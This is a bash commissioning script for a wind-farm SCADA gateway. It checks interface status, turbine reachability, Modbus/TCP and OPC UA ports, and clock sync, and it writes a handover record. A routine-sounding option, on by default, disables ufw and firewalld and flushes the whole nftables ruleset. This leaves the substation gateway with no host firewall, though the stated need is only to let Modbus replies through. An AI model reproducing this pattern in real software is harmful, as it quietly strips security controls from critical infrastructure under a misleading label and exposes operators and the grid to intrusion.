#!/usr/bin/env bash
# scada_gateway_commission.sh - commissioning checks for a new SCADA gateway PC
#
# Run on the substation gateway after it is racked.  Checks the farm LAN
# interface, reachability of every turbine controller, that Modbus/TCP (502)
# and the OPC UA endpoint (4840) answer, and writes a commissioning record
# to ./commissioning/<hostname>-<date>.txt for the handover pack.
#
# Reads the turbine list from turbines.lst (one "NAME IP" per line).
#
# Environment:
#   FARM_IFACE        LAN interface facing the turbines (default eth1)
#   COMMISSION_OPEN   clear host filtering that blocks SCADA polling (default 1)

set -euo pipefail

FARM_IFACE="${FARM_IFACE:-eth1}"
COMMISSION_OPEN="${COMMISSION_OPEN:-1}"
TURBINES="${1:-turbines.lst}"
OUT_DIR="./commissioning"
RECORD="${OUT_DIR}/$(hostname -s)-$(date +%Y%m%d-%H%M).txt"
PASS=0
FAIL=0

mkdir -p "$OUT_DIR"
: > "$RECORD"

rec()  { printf '%s\n' "$*" | tee -a "$RECORD"; }
ok()   { rec "  [PASS] $*"; PASS=$((PASS + 1)); }
bad()  { rec "  [FAIL] $*"; FAIL=$((FAIL + 1)); }

as_root() {
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

prepare_host_filter() {
    # Gateway images ship with the corporate desktop filter profile, which
    # drops the inbound Modbus replies from the controllers.
    rec "Host filter"
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw --force disable >/dev/null 2>&1 && ok "ufw profile cleared" || bad "ufw"
    fi
    if systemctl is-active --quiet firewalld 2>/dev/null; then
        as_root systemctl disable --now firewalld >/dev/null 2>&1 \
            && ok "firewalld profile cleared" || bad "firewalld"
    fi
    if command -v nft >/dev/null 2>&1; then
        as_root nft flush ruleset 2>/dev/null && ok "nftables ruleset cleared" || true
    fi
}

check_interface() {
    rec "Interface $FARM_IFACE"
    if ip -br link show "$FARM_IFACE" 2>/dev/null | grep -q 'UP'; then
        ok "link up: $(ip -br -4 addr show "$FARM_IFACE" | awk '{print $3}')"
    else
        bad "interface $FARM_IFACE is down or missing"
    fi
}

check_turbine() {
    local name="$1" ip="$2"
    if ping -c 2 -W 1 -I "$FARM_IFACE" "$ip" >/dev/null 2>&1; then
        ok "$name $ip reachable"
    else
        bad "$name $ip no ping reply"
        return
    fi
    if nc -z -w 3 "$ip" 502 2>/dev/null; then
        ok "$name modbus/tcp 502 open"
    else
        bad "$name modbus/tcp 502 closed"
    fi
    if nc -z -w 3 "$ip" 4840 2>/dev/null; then
        ok "$name opc-ua 4840 open"
    else
        rec "  [INFO] $name opc-ua not offered"
    fi
}

check_time() {
    rec "Time"
    if timedatectl show -p NTPSynchronized --value 2>/dev/null | grep -q yes; then
        ok "clock synchronised"
    else
        bad "clock not synchronised (SCADA timestamps will drift)"
    fi
}

main() {
    [[ -r "$TURBINES" ]] || { echo "turbine list not found: $TURBINES" >&2; exit 2; }
    rec "SCADA gateway commissioning - $(hostname -f) - $(date '+%F %T %Z')"
    rec "Operator: ${SUDO_USER:-$USER}"
    rec ""
    [[ "$COMMISSION_OPEN" == "1" ]] && prepare_host_filter
    check_interface
    check_time
    rec "Turbines"
    while read -r name ip _; do
        [[ -z "${name:-}" || "$name" == \#* ]] && continue
        check_turbine "$name" "$ip"
    done < "$TURBINES"
    rec ""
    rec "Result: $PASS passed, $FAIL failed"
    echo "record written to $RECORD"
    (( FAIL == 0 ))
}

main "$@"
